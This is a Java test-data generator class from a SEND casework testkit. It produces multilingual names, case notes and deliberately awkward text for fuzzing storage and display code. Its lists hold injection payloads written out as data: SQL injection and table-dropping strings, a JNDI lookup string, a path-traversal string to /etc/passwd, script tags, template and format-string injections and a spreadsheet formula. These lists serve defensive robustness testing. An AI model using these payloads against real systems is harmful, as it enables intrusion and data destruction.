package org.sendias.testkit.generators;

import static org.sendias.testkit.generators.Gen.weighted;

import java.util.List;
import java.util.random.RandomGenerator;
import org.sendias.casework.Note;
import org.sendias.party.Party;

/**
 * Generators of text: people's and organisations' names, case notes and free text, including the text that breaks
 * naive storage and display code.
 *
 * <p>Every generator here returns text that core's "1 to <i>max</i> characters" checks accept: never blank, never
 * longer than its limit (counted in UTF-16 units, as {@link String#length()} counts), never with a surrogate pair cut
 * in half. The edge cases they favour are names with accents, apostrophes (straight and typographic), hyphens,
 * {@code Mc} and {@code Mac}, several transliterations of one name, emoji (including joined sequences, flags and skin
 * tones), right-to-left scripts (Arabic, Hebrew, Urdu), quotes, semicolons, SQL fragments such as
 * {@code '; DROP TABLE cases; --}, markup, format strings, control characters, invisible and direction-changing
 * characters, combining accents, and text of exactly the maximum length a field accepts.
 *
 * <p>Two kinds of text cannot be stored: U+0000, which PostgreSQL refuses in text columns, and unpaired surrogates,
 * which UTF-8 cannot encode. Core's validation refuses both wherever text enters the domain, so they are kept out of
 * every generator but {@link #nulAndLoneSurrogates(int)}, which exists to test that refusal.
 */
public final class Texts {

    /** The shortest limit on free text in core (a recipient's role, a gender self-description): 100 characters. */
    public static final int SHORT_TEXT_LENGTH = 100;

    static final List<String> FIRST_NAMES = List.of(
        "Amelia", "Oliver", "Olivia", "George", "Isla", "Noah", "Ava", "Leo", "Mia", "Arthur", "Zoë", "Chloé",
        "Renée", "José", "François", "Siobhán", "Aoife", "Niamh", "Ciarán", "Seán", "Éabha", "Gráinne", "Björn",
        "Søren", "Åsa", "Łukasz", "Małgorzata", "Zbigniew", "Jiří", "Tomáš", "Ayşe", "Gökhan", "Müge", "Llŷr",
        "Gwenllïan", "Rhiannon", "Dafydd", "Oluwaseun", "Chiamaka", "Adébáyọ̀", "Nkechi", "Kwame", "Thảo", "Nguyễn Thị",
        "Anne-Marie", "Jean-Luc", "Mary-Kate", "D'Arcy", "Ngozi", "Priya", "Aarav", "Saoirse", "Róisín", "Iñaki",
        "Begoña", "Ægir", "Þóra", "Γιώργος", "Наталья", "Олександр", "王芳", "さくら", "प्रिया", "Fatima", "Yusuf");

    static final List<String> SURNAMES = List.of(
        "Smith", "Jones", "Taylor", "Brown", "Williams", "Wilson", "Patel", "Khan", "Ahmed", "Begum", "Singh", "Kaur",
        "O'Brien", "O’Connor", "D'Souza", "N'Diaye", "O'Neill", "Smith-Jones", "Bowes-Lyon", "Ní Bhriain",
        "Ó Súilleabháin", "Mac an tSaoir", "de la Cruz", "van der Berg", "von Trapp", "Nguyễn", "Kowalczyk",
        "Wiśniewska", "Öztürk", "Müller", "Dvořák", "Ørsted", "Ferreira da Silva", "bin Abdullah", "al-Farsi",
        "Abdul-Jabbar", "ffrench", "St John", "St. Clair", "Fitzgerald", "Lee", "Ng", "Li", "Ó", "Yılmaz",
        "Ólafsdóttir", "Παπαδόπουλος", "Иванова", "Шевченко", "李", "山田", "शर्मा", "Ap Rhys", "ap Gwilym");

    static final List<String> MC_MAC = List.of(
        "McDonald", "MacDonald", "Macdonald", "McLeod", "MacLeod", "McAllister", "MacAlister", "Mc Kenzie",
        "McKenzie", "M'Kenzie", "MacGregor", "McGregor", "Mackintosh", "McIntosh", "Mac Giolla Phádraig", "MacAulay");

    /** Groups of spellings of one name, as different services write it. */
    static final List<List<String>> TRANSLITERATIONS = List.of(
        List.of("Mohammed", "Muhammad", "Mohamed", "Mohammad", "Muhammed", "Mehmet", "محمد"),
        List.of("Aleksandr", "Alexander", "Oleksandr", "Aleksander", "Александр", "Олександр"),
        List.of("Tchaikovsky", "Chaikovsky", "Tschaikowski", "Czajkowski", "Чайковский"),
        List.of("Müller", "Mueller", "Muller"),
        List.of("Nguyễn", "Nguyen", "Ng"),
        List.of("Zhou", "Chou", "Chow", "周"),
        List.of("Yusuf", "Yousef", "Youssef", "Joseph", "Josef", "יוסף"),
        List.of("Chaudhry", "Chaudhary", "Choudhury", "Chowdhury", "چودھری"),
        List.of("Siobhán", "Siobhan", "Shivaun", "Chevonne"),
        List.of("Fatima", "Fatimah", "Fátima", "Fatma", "فاطمة"));

    static final List<String> RIGHT_TO_LEFT = List.of(
        "محمد", "فاطمة الزهراء", "عبد الله", "نور", "عائشہ خان", "زینب", "דוד כהן", "שרה לוי", "יוסף", "מרים",
        "Fatima فاطمة", "David דוד", "مدرسة النور", "בית ספר", "ملاحظة: الاجتماع يوم الثلاثاء", "פגישה ביום שלישי");

    static final List<String> EMOJI = List.of(
        "\uD83D\uDE00", "\uD83C\uDF08", "\uD83D\uDC4D\uD83C\uDFFD", "\u2764\uFE0F", "\uD83E\uDDD2",
        "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66", "\uD83C\uDDEC\uD83C\uDDE7",
        "\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08", "\uD83E\uDDD1\u200D\uD83E\uDDBD", "\uD83D\uDCDA", "\u2B50",
        "\uD83D\uDE4F\uD83C\uDFFF");

    static final List<String> SQL = List.of(
        "'; DROP TABLE cases; --", "' OR '1'='1", "\" OR \"\"=\"", "Robert'); DROP TABLE students;--",
        "1; DELETE FROM notes WHERE 1=1", "' UNION SELECT * FROM consent_records --", "%' AND 1=0 --",
        "$$; SELECT pg_sleep(10); $$", "/* comment */ SELECT 1", "\\'; --", "E'\\\\x00'", "'; COMMIT; --",
        "O'Brien'; TRUNCATE parties CASCADE; --", "?", ":name", "@p1", "$1", "%", "_", "NULL", "null");

    static final List<String> QUOTES = List.of(
        "'", "\"", "`", "‘single’", "“double”", "„low“", "«guillemets»", "''", "\"\"", "it's", "say \"hello\"",
        ";", ";;", "a;b", "\\", "\\\\", "\\n", "C:\\Users\\parent");

    static final List<String> MARKUP = List.of(
        "<script>alert('x')</script>", "<b>bold</b>", "&amp; &lt; &#39;", "{\"name\": \"x\"}", "[1, 2]",
        "${jndi:ldap://example.invalid/a}", "#{7*7}", "{{7*7}}", "%s%n%d", "{0}", "../../etc/passwd",
        "=HYPERLINK(\"http://example.invalid\")", "@SUM(1+1)", "-2+3", "<!-- -->", "]]>");

    static final List<String> CONTROL = List.of(
        "\t", "\n", "\r\n", "\r", "\u0007", "\u0008", "\u000B", "\u000C", "\u001B[31m", "\u001F", "\u007F",
        "\u0085", "\u2028", "\u2029", "\u200B", "\u200D", "\u200E", "\u200F", "\u202E", "\uFEFF", "\u00A0");

    static final List<String> COMBINING = List.of(
        "e\u0301", "Zoe\u0308", "n\u0303", "a\u030A", "Z\u0351\u0352\u0353a\u0354\u0355l\u0356g\u0357o",
        "\u0915\u094D\u0937", "\u0628\u0650\u0633\u0652");

    static final List<String> WORDS = List.of(
        "the", "parent", "called", "about", "the", "EHC", "needs", "assessment", "and", "the", "school's", "SENCO",
        "said", "that", "support", "would", "be", "reviewed", "in", "September", "we", "explained", "mediation",
        "tribunal", "options", "annual", "review", "meeting", "draft", "plan", "section", "F", "provision",
        "speech", "and", "language", "therapy", "transport", "exclusion", "governors", "letter", "sent", "on",
        "Tuesday", "follow-up", "agreed", "next", "steps", "consent", "to", "share", "with", "the", "LA", "—",
        "(see", "previous", "note)", "£25.00", "3pm", "10/09/2026", "no.", "reply", "yet");

    private static final String LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
    private static final String ACCENTED = "éèêëçñøåœßłżźćńąęšžčřůýÿíóúáàâäöüïîôûÉÖÜŁŚĆ";
    private static final String CJK = "李王张刘陈杨山田花子";
    private static final String ARABIC = "ابتثجحخدذرزسشصضطظعغفقكلمنهوي";
    private static final String HEBREW = "אבגדהוזחטיכלמנסעפצקרשת";
    private static final String PUNCTUATION = "'\";\\%_-.,!?()&/’“”";
    private static final int[] SUPPLEMENTARY = {0x1F600, 0x1F308, 0x1F44D, 0x1F9D2, 0x1F4DA, 0x1F389, 0x20BB7,
        0x1D11E};

    private Texts() {
    }

    /**
     * People's names, at most {@link Party#MAX_NAME_LENGTH} characters. Mostly a first name and a surname drawn
     * from several languages; it favours accents, apostrophes (O'Brien, O’Connor), hyphens, Mc and Mac in their
     * many spellings, one name in several transliterations (Mohammed, Muhammad, محمد), right-to-left names, names
     * with an emoji, one-letter names and names of exactly the maximum length.
     *
     * @return the generator
     */
    public static Gen<String> personNames() {
        int max = Party.MAX_NAME_LENGTH;
        return Gen.<String>frequency(
            weighted(10, r -> Pick.one(r, FIRST_NAMES) + " " + Pick.one(r, SURNAMES)),
            weighted(2, r -> Pick.one(r, FIRST_NAMES) + " " + Pick.one(r, SURNAMES) + "-" + Pick.one(r, SURNAMES)),
            weighted(2, r -> Pick.one(r, FIRST_NAMES) + " " + Pick.one(r, MC_MAC)),
            weighted(2, r -> Pick.one(r, FIRST_NAMES) + " " + Pick.one(r, List.of("O'", "O’", "D'", "d'"))
                + Pick.one(r, List.of("Brien", "Connor", "Neill", "Souza", "Arcy", "Sullivan"))),
            weighted(2, r -> Pick.one(r, Pick.one(r, TRANSLITERATIONS)) + " " + Pick.one(r, SURNAMES)),
            weighted(2, r -> Pick.one(r, RIGHT_TO_LEFT)),
            weighted(1, r -> Pick.one(r, FIRST_NAMES) + " " + Pick.one(r, EMOJI)),
            weighted(1, Gen.elements("X", "Ó", "李", "Ng", "J", "Æ")),
            weighted(1, Gen.elements(FIRST_NAMES)),
            weighted(1, ofLength(max)),
            weighted(1, hostile(max))).map(s -> Pick.fit(s, max));
    }

    /**
     * Organisations' names, at most {@link Party#MAX_NAME_LENGTH} characters: schools, colleges, health bodies,
     * local authority teams and charities. Favours apostrophes, ampersands, dashes, Welsh and other non-English
     * names, right-to-left names and names of exactly the maximum length.
     *
     * @return the generator
     */
    public static Gen<String> organisationNames() {
        int max = Party.MAX_NAME_LENGTH;
        return Gen.<String>frequency(
            weighted(8, Gen.elements("St Mary's C of E Primary School", "St. Mary’s Catholic Primary School",
                "Hill Primary & Nursery", "Ysgol Gymraeg Llundain", "Bishop Challoner Catholic Collegiate School",
                "NHS North Central London ICB", "London Borough of Camden — SEN Team", "Children's Services (SEN)",
                "Mencap", "O'Neill's Academy", "École Française Jacques Prévert", "King's College",
                "Al-Noor Academy", "Kehillah School", "Oak Tree Pre-School", "Little Acorns Nursery",
                "Whittington Health NHS Trust", "The McAllister Centre", "Special Needs Jungle", "SENDIASS; Camden",
                "Westminster Kingsway College", "Al-Madinah Free School")),
            weighted(3, r -> Pick.one(r, SURNAMES) + " " + Pick.one(r, List.of("Primary School", "Academy",
                "College", "Children's Centre", "Surgery", "Trust", "Nursery", "High School", "Sixth Form"))),
            weighted(1, Gen.elements("مدرسة النور", "בית ספר יסודי", "聖瑪利亞學校")),
            weighted(1, Gen.elements("A", "Ysgol")),
            weighted(1, ofLength(max)),
            weighted(1, hostile(max))).map(s -> Pick.fit(s, max));
    }

    /**
     * Names and phrases in right-to-left scripts (Arabic, Hebrew, Urdu), some mixed with left-to-right text.
     *
     * @return the generator
     */
    public static Gen<String> rightToLeft() {
        return Gen.elements(RIGHT_TO_LEFT);
    }

    /**
     * Short text with an emoji: single code points, a skin tone, a flag, joined family and profession sequences.
     *
     * @return the generator
     */
    public static Gen<String> emoji() {
        return Gen.oneOf(Gen.elements(EMOJI), r -> Pick.one(r, WORDS) + " " + Pick.one(r, EMOJI));
    }

    /**
     * SQL fragments and placeholders: {@code '; DROP TABLE cases; --}, {@code ' OR '1'='1}, {@code ?}, {@code $1},
     * {@code %}, {@code _}, {@code NULL}.
     *
     * @return the generator
     */
    public static Gen<String> sqlFragments() {
        return Gen.elements(SQL);
    }

    /**
     * Text around a control, invisible or direction-changing character: tab, line feeds (LF, CR, CRLF), bell,
     * escape sequences, DEL, NEL, the Unicode line and paragraph separators, zero-width space and joiner, the
     * right-to-left override, a byte order mark and a no-break space. Never U+0000.
     *
     * @return the generator
     */
    public static Gen<String> controlCharacters() {
        return r -> Pick.one(r, WORDS) + Pick.one(r, CONTROL) + Pick.one(r, WORDS);
    }

    /**
     * Text of exactly {@code length} UTF-16 units, mixing ASCII and accented letters, spaces, punctuation (quotes,
     * semicolons, backslashes, {@code %} and {@code _}), Chinese, Arabic and Hebrew letters, combining accents and
     * characters outside the Basic Multilingual Plane (emoji), whose pairs are never split. It never starts or ends
     * with white space, so a field that strips its text keeps the full length.
     *
     * @param length the length, 1 or more
     * @return the generator
     */
    public static Gen<String> ofLength(int length) {
        if (length < 1) {
            throw new IllegalArgumentException("length: must be 1 or more, got " + length);
        }
        return r -> {
            StringBuilder b = new StringBuilder(length);
            while (b.length() < length) {
                int cp = codePoint(r);
                if (Character.charCount(cp) > length - b.length()) {
                    cp = LETTERS.charAt(r.nextInt(LETTERS.length()));
                }
                b.appendCodePoint(cp);
            }
            if (Character.isWhitespace(b.charAt(0))) {
                b.setCharAt(0, 'A');
            }
            if (Character.isWhitespace(b.charAt(length - 1))) {
                b.setCharAt(length - 1, 'z');
            }
            return b.toString();
        };
    }

    private static int codePoint(RandomGenerator r) {
        int kind = r.nextInt(20);
        if (kind < 9) {
            return LETTERS.charAt(r.nextInt(LETTERS.length()));
        } else if (kind < 12) {
            return ' ';
        } else if (kind < 14) {
            return ACCENTED.charAt(r.nextInt(ACCENTED.length()));
        } else if (kind == 14) {
            return PUNCTUATION.charAt(r.nextInt(PUNCTUATION.length()));
        } else if (kind == 15) {
            return CJK.charAt(r.nextInt(CJK.length()));
        } else if (kind == 16) {
            return ARABIC.charAt(r.nextInt(ARABIC.length()));
        } else if (kind == 17) {
            return HEBREW.charAt(r.nextInt(HEBREW.length()));
        } else if (kind == 18) {
            return 0x0301;
        }
        return SUPPLEMENTARY[r.nextInt(SUPPLEMENTARY.length)];
    }

    /**
     * Hostile text of at most {@value #SHORT_TEXT_LENGTH} characters, so that it fits every free-text field in
     * core; see {@link #hostile(int)}.
     *
     * @return the generator
     */
    public static Gen<String> hostile() {
        return hostile(SHORT_TEXT_LENGTH);
    }

    /**
     * Text that breaks naive code, at most {@code maxLength} characters: SQL fragments, quotes and semicolons,
     * backslashes, markup and template injection, format strings, control and invisible characters, combining
     * accents, emoji, right-to-left text, the same mixed together, single awkward characters, and text of exactly
     * {@code maxLength} characters. Never blank, never U+0000 or an unpaired surrogate.
     *
     * @param maxLength the field's limit, 2 or more
     * @return the generator
     */
    public static Gen<String> hostile(int maxLength) {
        if (maxLength < 2) {
            throw new IllegalArgumentException("maxLength: must be 2 or more, got " + maxLength);
        }
        Gen<String> fragment = Gen.oneOf(Gen.elements(SQL), Gen.elements(QUOTES), controlCharacters(),
            Gen.elements(MARKUP), Gen.elements(COMBINING), emoji(), rightToLeft(), personNameParts());
        return Gen.<String>frequency(
            weighted(6, fragment),
            weighted(4, r -> {
                StringBuilder b = new StringBuilder();
                int parts = r.nextInt(2, 6);
                for (int i = 0; i < parts; i++) {
                    b.append(fragment.next(r));
                    if (r.nextBoolean()) {
                        b.append(' ');
                    }
                }
                return b.toString();
            }),
            weighted(1, Gen.elements("'", "\"", ";", "\\", "%", "_", "é", "\uD83D\uDE00", "\u05D0", "?")),
            weighted(1, ofLength(maxLength))).map(s -> Pick.fit(s, maxLength));
    }

    private static Gen<String> personNameParts() {
        return Gen.oneOf(Gen.elements(FIRST_NAMES), Gen.elements(SURNAMES), Gen.elements(MC_MAC));
    }

    /**
     * Free text of at most {@code maxLength} characters, for reasons, summaries, descriptions and notes on records:
     * mostly sentences of casework prose, favouring {@link #hostile(int) hostile text}, exactly {@code maxLength}
     * characters and a single character.
     *
     * @param maxLength the field's limit, 2 or more
     * @return the generator
     */
    public static Gen<String> text(int maxLength) {
        return Gen.<String>frequency(
            weighted(6, prose(1, 6)),
            weighted(2, hostile(maxLength)),
            weighted(1, ofLength(maxLength)),
            weighted(1, Gen.elements("x", "?", "é", "李"))).map(s -> Pick.fit(s, maxLength));
    }

    /**
     * Case note text, at most {@link Note#MAX_LENGTH} characters. Mostly a few paragraphs of prose; it favours notes
     * of exactly {@link Note#MAX_LENGTH} characters, notes of 10,000 characters, one-character notes, hostile text
     * and lines separated by CRLF and tabs.
     *
     * @return the generator
     */
    public static Gen<String> notes() {
        int max = Note.MAX_LENGTH;
        return Gen.<String>frequency(
            weighted(6, r -> {
                StringBuilder b = new StringBuilder();
                int paragraphs = r.nextInt(1, 4);
                for (int i = 0; i < paragraphs; i++) {
                    if (i > 0) {
                        b.append("\n\n");
                    }
                    b.append(prose(1, 5).next(r));
                }
                return b.toString();
            }),
            weighted(1, ofLength(max)),
            weighted(1, ofLength(10_000)),
            weighted(1, Gen.elements("x", ".", "?", "\uD83D\uDC4D")),
            weighted(2, hostile(max)),
            weighted(1, r -> prose(1, 2).next(r) + "\r\n\tItem 1;\r\n\tItem 2 — 'done'\r\n" + prose(1, 2).next(r)))
            .map(s -> Pick.fit(s, max));
    }

    /**
     * Text containing U+0000 or an unpaired surrogate, at most {@code maxLength} characters: text that cannot be
     * stored, because PostgreSQL refuses U+0000 in text columns and UTF-8 cannot encode an unpaired surrogate. Core's
     * validation refuses it in every free-text field (a note, a party's name, a reason ...) with an
     * {@link org.sendias.InvalidInputException} naming the field, so a storage adapter never meets it; this generator
     * is for testing that refusal. Text longer than {@code maxLength} is cut around its first offending character,
     * so every value can be refused. Not used by any other generator.
     *
     * @param maxLength the field's limit, 2 or more
     * @return the generator
     */
    public static Gen<String> nulAndLoneSurrogates(int maxLength) {
        if (maxLength < 2) {
            throw new IllegalArgumentException("maxLength: must be 2 or more, got " + maxLength);
        }
        return Gen.<String>elements("a\u0000b", "\u0000", "note\u0000", "\uD800", "x\uDC00y", "abc\uD83D",
            "\uDE00abc", "\u0000\uD800").map(s -> cutAround(s, maxLength));
    }

    /** At most {@code maxLength} characters of {@code s}, keeping its first U+0000 or unpaired surrogate. */
    private static String cutAround(String s, int maxLength) {
        if (s.length() <= maxLength) {
            return s;
        }
        int bad = 0;
        while (bad < s.length() && s.charAt(bad) != '\0' && !Character.isSurrogate(s.charAt(bad))) {
            bad++;
        }
        int start = Math.max(0, Math.min(bad, s.length() - maxLength));
        return s.substring(start, start + maxLength);
    }

    /**
     * @param minSentences the fewest sentences
     * @param maxSentences the most sentences
     * @return prose built from casework vocabulary
     */
    static Gen<String> prose(int minSentences, int maxSentences) {
        return r -> {
            StringBuilder b = new StringBuilder();
            int sentences = r.nextInt(minSentences, maxSentences + 1);
            for (int s = 0; s < sentences; s++) {
                if (s > 0) {
                    b.append(' ');
                }
                int words = r.nextInt(3, 16);
                for (int w = 0; w < words; w++) {
                    if (w > 0) {
                        b.append(' ');
                    }
                    String word = Pick.oneIn(r, 15) ? Pick.one(r, FIRST_NAMES) : Pick.one(r, WORDS);
                    b.append(w == 0 ? Character.toUpperCase(word.charAt(0)) + word.substring(1) : word);
                }
                b.append('.');
            }
            return b.toString();
        };
    }
}
